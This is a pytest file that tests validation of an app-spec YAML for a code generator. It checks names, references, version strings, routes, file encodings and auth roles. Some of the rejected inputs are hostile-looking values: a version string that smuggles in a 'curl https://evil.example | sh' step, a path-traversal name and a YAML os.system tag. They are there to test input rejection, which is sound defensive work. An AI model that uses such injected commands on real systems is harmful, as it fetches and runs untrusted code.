"""The app spec: the contract between the architecture phase and generation."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from bmadgen import appspec
from bmadgen.errors import InvalidInput

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "ecommerce.appspec.yaml"


def _example() -> dict:
    return yaml.safe_load(EXAMPLE.read_text())


def test_example_spec_loads_and_dumps_deterministically() -> None:
    spec = appspec.load(EXAMPLE)
    assert [f.name for f in spec.features] == ["catalog", "orders"]
    assert appspec.dump(spec) == appspec.dump(appspec.parse(yaml.safe_load(appspec.dump(spec))))


def test_every_problem_is_listed_with_its_path_in_one_pass() -> None:
    data = _example()
    data["features"][0]["entities"][1]["fields"][5]["ref"] = "nope"
    data["features"][1]["entities"][0]["fields"].append({"name": "class", "type": "blob"})
    data["features"][1]["entities"][0]["fields"].append({"name": "total", "type": "int"})
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    details = info.value.details
    assert "features[1].entities[0].fields[5].name: field name 'class' is a Python keyword" in details
    assert any(d.startswith("features[1].entities[0].fields[5].type:") for d in details)
    assert "features[0].entities[1].fields[5].ref: references missing entity 'nope'" in details
    assert "features[1].entities[0].fields[6].name: duplicate field 'total'" in details


def test_cross_references_are_checked_when_fields_are_valid() -> None:
    data = _example()
    data["features"][1]["entities"][0]["fields"][4]["ref"] = "ghost"
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    assert any("references missing entity 'ghost'" in d for d in info.value.details)


@pytest.mark.parametrize("bad", [[], "a string", None, 3])
def test_a_spec_that_is_not_a_mapping_is_refused(bad: object) -> None:
    with pytest.raises(InvalidInput, match="must be a mapping"):
        appspec.parse(bad)


def test_a_missing_file_and_broken_yaml_are_clear_errors(tmp_path: Path) -> None:
    from bmadgen.errors import NotFound

    with pytest.raises(NotFound, match="no app spec"):
        appspec.load(tmp_path / "appspec.yaml")
    broken = tmp_path / "broken.yaml"
    broken.write_text("features: [\n")
    with pytest.raises(InvalidInput, match="not valid YAML"):
        appspec.load(broken)


def test_names_are_checked_with_their_path_and_the_spec_limit() -> None:
    data = _example()
    data["name"] = "My Shop"
    data["features"][0]["entities"][0]["name"] = "c" * 41
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    details = info.value.details
    assert ("name: app name 'My Shop' is not valid: use lowercase letters, digits and "
            "underscores, starting with a letter") in details
    assert f"features[0].entities[0].name: entity name '{'c' * 41}' is longer than 40 characters" in details


def test_a_new_feature_gets_one_entity_named_in_the_singular() -> None:
    spec = appspec.load(EXAMPLE)
    new = appspec.with_feature(spec, "boxes", title="Boxes")
    feature = new.feature("boxes")
    assert (feature.title, [e.name for e in feature.entities]) == ("Boxes", ["box"])
    assert [(f.name, f.type, f.optional) for f in feature.entities[0].fields] == [
        ("name", "str", False), ("description", "text", True)]
    assert new.features[:-1] == spec.features
    assert [f.name for f in spec.features] == ["catalog", "orders"]  # the original is untouched


def test_a_new_feature_takes_fields_in_the_command_line_syntax() -> None:
    spec = appspec.load(EXAMPLE)
    new = appspec.with_feature(spec, "reviews", entity="critique", fields=[
        "body:text", "note:str?", "mood:enum=happy|sad", "product_id:ref=product"])
    fields = {f.name: f for f in new.feature("reviews").entities[0].fields}
    assert new.feature("reviews").entities[0].name == "critique"
    assert fields["note"].optional and not fields["body"].optional
    assert fields["mood"].values == ["happy", "sad"]
    assert fields["product_id"].ref == "product"


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        (["title"], ("field 'title' must look like name:type (types: str, text, slug, email, "
                     "url, int, float, money, bool, date, datetime, enum, ref, refs)")),
        (["x:str=abc"], "field 'x:str=abc': only enum, ref and refs fields take '=...'"),
        (["title:currency"], "app spec with the new slice is invalid"),
        (["owner_id:ref=ghost"], "app spec with the new slice is invalid"),
    ],
)
def test_bad_fields_for_a_new_feature_are_refused(fields: list[str], message: str) -> None:
    with pytest.raises(InvalidInput) as info:
        appspec.with_feature(appspec.load(EXAMPLE), "reviews", fields=fields)
    assert info.value.message.startswith(message)


def test_a_missing_reference_is_reported_once() -> None:
    """The whole-spec checks ran (their error is at the top): the raw re-check adds nothing."""
    with pytest.raises(InvalidInput) as info:
        appspec.with_feature(appspec.load(EXAMPLE), "reviews", fields=["owner_id:ref=ghost"])
    assert info.value.message == "app spec with the new slice is invalid (1 problem)"
    assert info.value.details == [
        "(top): reviews.review.owner_id references missing entity 'ghost'"]


@pytest.mark.parametrize(
    ("name", "problems"),
    [
        ("reviews", []),
        ("orders", ["slice 'orders' already exists in the app spec"]),
        ("shared", ["slice name 'shared' is reserved"]),
        ("match", ["slice name 'match' is a Python keyword"]),
        ("x" * 25, [f"slice name '{'x' * 25}' is longer than 24 characters"]),
        ("../x", [("slice name '../x' is not valid: use lowercase letters, digits and "
                   "underscores, starting with a letter")]),
    ],
)
def test_new_feature_names_list_every_problem(name: str, problems: list[str]) -> None:
    spec = appspec.load(EXAMPLE)
    assert appspec.new_feature_problems(spec, name, max_len=24) == problems


def test_removing_a_feature_keeps_the_rest_and_never_the_last() -> None:
    from bmadgen.errors import NotFound

    spec = appspec.load(EXAMPLE)
    alone = appspec.without_feature(spec, "orders")
    assert [f.name for f in alone.features] == ["catalog"]
    with pytest.raises(NotFound, match="no feature 'nope'"):
        appspec.without_feature(spec, "nope")
    with pytest.raises(InvalidInput, match="cannot remove 'catalog': an app needs at least one slice"):
        appspec.without_feature(alone, "catalog")


# Values that reach non-Python files are checked by their format (issue 15, item 6).


def _field_problem(field: dict) -> list[str]:
    data = _example()
    data["features"][0]["entities"][0]["fields"].append(field)
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    assert "\n" not in info.value.one_line()
    return info.value.details


def _stack_problems(key: str, value: object) -> list[str]:
    data = _example()
    data["stack"][key] = value
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    assert "\n" not in info.value.one_line()
    return info.value.details


@pytest.mark.parametrize(
    "version",
    ["3.11\n      - run: curl https://evil.example | sh", '3.11"\n[tool.evil]\nx = "1',
     "3.10", "2.7", "3", "3.11.4", "latest", " 3.12", "3.12 ", "", 3.12, 3],
)
def test_the_python_version_must_look_like_one(version: object) -> None:
    assert _stack_problems("python", version)[0].startswith("stack.python: ")


@pytest.mark.parametrize("version", ["3.11", "3.12", "3.13", "3.20"])
def test_python_versions_3_11_and_newer_pass(version: str) -> None:
    data = _example()
    data["stack"]["python"] = version
    assert appspec.parse(data).stack.python == version


@pytest.mark.parametrize("name", ["../../../tmp/evil", "fast api", "FastAPI", "a/b", ""])
def test_the_stack_name_is_a_name(name: str) -> None:
    assert _stack_problems("name", name)[0].startswith("stack.name: ")


@pytest.mark.parametrize("text", ["a\x00b", "bell\x07", "del\x7f", "c1\x85", "lone \udcff"])
@pytest.mark.parametrize("where", ["title", "description", "feature title", "field description",
                                   "endpoint summary", "requirement"])
def test_text_with_control_characters_is_refused(text: str, where: str) -> None:
    data = _example()
    feature = data["features"][0]
    target = {
        "title": (data, "title"),
        "description": (data, "description"),
        "feature title": (feature, "title"),
        "field description": (feature["entities"][0]["fields"][0], "description"),
        "endpoint summary": (feature["endpoints"][0], "summary"),
    }
    if where == "requirement":
        feature["requirements"].append(text)
    else:
        holder, key = target[where]
        holder[key] = text
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    assert "control character" in info.value.one_line() or "surrogate" in info.value.one_line()


def test_text_keeps_newlines_tabs_and_any_language() -> None:
    data = _example()
    data["description"] = "Line one\nLine two\twith a tab — ünïcødé 漢字 🎉"
    assert appspec.parse(data).description == data["description"]


def test_event_consumers_are_slice_names() -> None:
    data = _example()
    data["features"][0]["events"] = [{"name": "sold", "consumers": ["orders", "../x"]}]
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    assert info.value.details[0].startswith("features[0].events[0].consumers[1]: ")


# Numbers, paths and files the generator could not turn into an app (issue 15, item 9).


@pytest.mark.parametrize("kind", ["int", "float"])
@pytest.mark.parametrize("bound", ["min", "max"])
@pytest.mark.parametrize("value", [float("nan"), float("inf"), float("-inf"), 1e300, -1e16,
                                   10**400])
def test_min_and_max_are_finite_and_bounded(kind: str, bound: str, value: float) -> None:
    details = _field_problem({"name": "amount", "type": kind, bound: value})
    assert details[0].startswith(f"features[0].entities[0].fields[2].{bound}: ")


def test_an_int_field_needs_a_whole_number_between_min_and_max() -> None:
    details = _field_problem({"name": "amount", "type": "int", "min": 0.2, "max": 0.8})
    assert "no whole number between min 0.2 and max 0.8" in details[0]


@pytest.mark.parametrize("value", [float("nan"), float("inf"), 1e300, 0, 100_001])
def test_max_length_is_a_sensible_whole_number(value: float) -> None:
    details = _field_problem({"name": "code", "type": "str", "max_length": value})
    assert details[0].startswith("features[0].entities[0].fields[2].max_length: ")


@pytest.mark.parametrize("path", ["//", "/products//", "//products", "/a//b", "/{", "/{}",
                                  "/x{id}", "/{id", "/ products", "products", "/a/{1x}"])
def test_endpoint_paths_are_routes(path: str) -> None:
    data = _example()
    data["features"][0]["endpoints"][0]["path"] = path
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    assert info.value.details[0].startswith("features[0].endpoints[0].path: ")


@pytest.mark.parametrize("path", ["/", "/products", "/products/", "/products/{id}",
                                  "/shop-items/{itemId}/notes"])
def test_good_endpoint_paths_pass(path: str) -> None:
    data = _example()
    data["features"][0]["endpoints"][0]["path"] = path
    appspec.parse(data)


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "binary"),
        ("name: caf\xe9\n".encode("latin-1"), "not UTF-8"),
        (b"\xff\xfe" + "name: shop\n".encode("utf-16-le"), "binary"),
        (b"name: shop\x00\n", "binary"),
        (b"[" * 100_000, "not valid YAML"),
        (b"a: &a [1]\nb: *a\n", "is invalid"),
        (b"!!python/object:os.system {}", "not valid YAML"),
    ],
    ids=["binary", "latin-1", "utf-16", "nul", "deep nesting", "alias", "python tag"],
)
def test_unreadable_spec_files_are_one_line_errors(tmp_path: Path, content: bytes,
                                                    fragment: str) -> None:
    spec = tmp_path / "appspec.yaml"
    spec.write_bytes(content)
    with pytest.raises(InvalidInput) as info:
        appspec.load(spec)
    assert fragment in info.value.one_line()
    assert "\n" not in info.value.one_line()


def test_a_spec_that_is_a_folder_a_fifo_or_too_big_is_refused(tmp_path: Path) -> None:
    import os

    folder = tmp_path / "folder.yaml"
    folder.mkdir()
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)  # opening it for reading would block forever
    big = tmp_path / "big.yaml"
    big.write_bytes(b"# " + b"x" * appspec.MAX_SPEC_BYTES + b"\n")
    for path, fragment in ((folder, "is a folder"), (fifo, "is a FIFO"),
                           (big, "larger than")):
        with pytest.raises(InvalidInput, match=fragment):
            appspec.load(path)


@pytest.mark.parametrize(
    ("field", "message"),
    [
        ({"name": "x", "type": "int", "on_delete": "cascade"}, "'on_delete' is only for ref fields"),
        ({"name": "x", "type": "ref", "ref": "product", "on_delete": "nullify"}, "on_delete"),
        ({"name": "x", "type": "money", "max": 1e14}, "min and max must be below 1e+13"),
        ({"name": "x", "type": "email", "max_length": 5}, "'max_length' is only for str, text"),
        ({"name": "x", "type": "url", "min": 1}, "'min'/'max' are only for int, float and money"),
    ],
)
def test_new_field_options_are_checked(field: dict, message: str) -> None:
    data = _example()
    data["features"][1]["entities"][0]["fields"].append(field)
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    assert any(message in detail for detail in info.value.details), info.value.details


def test_new_field_types_and_cascade_are_accepted() -> None:
    data = _example()
    data["features"][1]["entities"][0]["fields"] += [
        {"name": "website", "type": "url", "optional": True},
        {"name": "code", "type": "slug", "max_length": 20},
        {"name": "fee", "type": "money", "min": 0, "max": 1000},
        {"name": "category_id", "type": "ref", "ref": "category", "on_delete": "cascade"},
    ]
    fields = appspec.parse(data).features[1].entities[0].fields
    assert [f.type for f in fields[-4:]] == ["url", "slug", "money", "ref"]
    assert fields[-1].on_delete == "cascade"


def test_removing_a_referenced_feature_names_what_would_break() -> None:
    spec = appspec.parse(_example())
    with pytest.raises(InvalidInput) as info:
        appspec.without_feature(spec, "catalog")
    assert "cannot remove 'catalog'" in info.value.message
    assert info.value.details == ["orders.order.product_id -> product (on_delete restrict)"]
    assert [f.name for f in appspec.without_feature(spec, "orders").features] == ["catalog"]


def test_adding_a_feature_with_a_ref_says_what_it_means_for_the_referenced_rows() -> None:
    spec = appspec.with_feature(appspec.parse(_example()), "reviews",
                                fields=["product_id:ref=product", "stars:int"])
    assert appspec.references_from(spec, "reviews") == [
        ("review.product_id refers to product (slice catalog): deleting a product is refused "
         "(409) while these rows refer to it")]
    assert appspec.references_from(spec, "catalog")[0].startswith("product.category_id")


# ------------------------------------------------------------------ sign-in and roles


def _with_auth(auth: dict) -> dict:
    data = _example()
    data["auth"] = auth
    return data


def test_a_spec_without_auth_loads_as_an_open_app_and_dumps_without_the_section() -> None:
    spec = appspec.parse(_example())
    assert spec.auth is None and not spec.auth_enabled
    assert "auth" not in yaml.safe_load(appspec.dump(spec))


def test_the_auth_section_gives_admin_everything_and_defaults_missing_entities() -> None:
    spec = appspec.parse(_with_auth({
        "style": "session", "roles": ["shopper", "store_manager"], "default_role": "shopper",
        "permissions": {"product": {"read": ["shopper"], "write": ["store_manager"]}}}))
    auth = spec.auth
    assert auth is not None and spec.auth_enabled
    assert auth.all_roles == ["admin", "shopper", "store_manager"]
    assert auth.writers("product") == ["admin", "store_manager"]
    assert auth.readers("product") == ["admin", "shopper", "store_manager"]
    # No entry: every signed-in role reads, admin alone writes.
    assert auth.readers("order") == ["admin", "shopper", "store_manager"]
    assert auth.writers("order") == ["admin"]
    assert auth.signup_role == "shopper"
    again = appspec.parse(yaml.safe_load(appspec.dump(spec)))
    assert again.auth == auth


def test_bad_auth_sections_list_every_problem_with_its_path() -> None:
    data = _with_auth({
        "style": "token", "roles": ["shopper", "shopper", "Bad Role"], "default_role": "ghost",
        "permissions": {"product": {"write": ["nobody"]}, "unicorn": {"read": ["shopper"]}}})
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    details = info.value.details
    assert any(d.startswith("auth.roles[2]:") for d in details)
    data["auth"]["roles"] = ["shopper", "shopper"]
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    line = "\n".join(info.value.details)
    assert "roles: a role is named twice" in line
    assert "default_role: 'ghost' is not one of the roles" in line
    assert "permissions.product.write: role 'nobody' is not one of the roles" in line
    data["auth"] = {"style": "token", "roles": ["shopper"],
                    "permissions": {"unicorn": {"read": ["shopper"]}}}
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    assert "auth.permissions.unicorn: names entity 'unicorn', which is not in the app" in \
        "\n".join(info.value.details)


@pytest.mark.parametrize(("auth", "message"), [
    ({"style": "session", "roles": ["reader"], "default_role": "admin"}, "sign-up never gives admin"),
    ({"style": "session", "roles": []}, "name at least one role besides admin"),
    ({"style": "session", "roles": ["admin"]}, "name at least one role besides admin"),
    ({"style": "basic", "roles": ["reader"]}, "auth.style"),
])
def test_roles_that_cannot_work_are_refused(auth: dict, message: str) -> None:
    with pytest.raises(InvalidInput) as info:
        appspec.parse(_with_auth(auth))
    assert message in "\n".join(info.value.details)


def test_with_auth_on_the_accounts_slice_and_its_tables_are_reserved() -> None:
    data = _with_auth({"style": "session", "roles": ["shopper"]})
    data["features"][0]["name"] = "accounts"
    data["features"][1]["entities"][0]["name"] = "user"
    data["features"][0]["entities"][1]["fields"][5]["ref"] = "category"
    with pytest.raises(InvalidInput) as info:
        appspec.parse(data)
    details = "\n".join(info.value.details)
    assert "features[0].name: 'accounts' is reserved when auth is on" in details
    assert "features[1].entities[0].name: 'user' is reserved when auth is on" in details
    data["auth"]["style"] = "none"  # an open app may name them
    assert appspec.parse(data).features[0].name == "accounts"
    spec = appspec.parse(_with_auth({"style": "session", "roles": ["shopper"]}))
    assert appspec.new_feature_problems(spec, "accounts") == ["slice name 'accounts' is reserved"]


def test_a_slice_added_to_a_signed_in_app_takes_the_default_permissions() -> None:
    spec = appspec.parse(_with_auth({
        "style": "session", "roles": ["shopper"],
        "permissions": {"product": {"read": ["shopper"], "write": ["shopper"]}}}))
    grown = appspec.with_feature(spec, "reviews")
    assert grown.auth is not None
    assert grown.auth.writers("review") == ["admin"]
    assert grown.auth.readers("review") == ["admin", "shopper"]
    data = grown.model_dump(mode="json")
    data["auth"]["permissions"]["review"] = {"read": [], "write": ["shopper"]}
    shrunk = appspec.without_feature(appspec.parse(data), "reviews")
    assert shrunk.auth is not None and "review" not in shrunk.auth.permissions
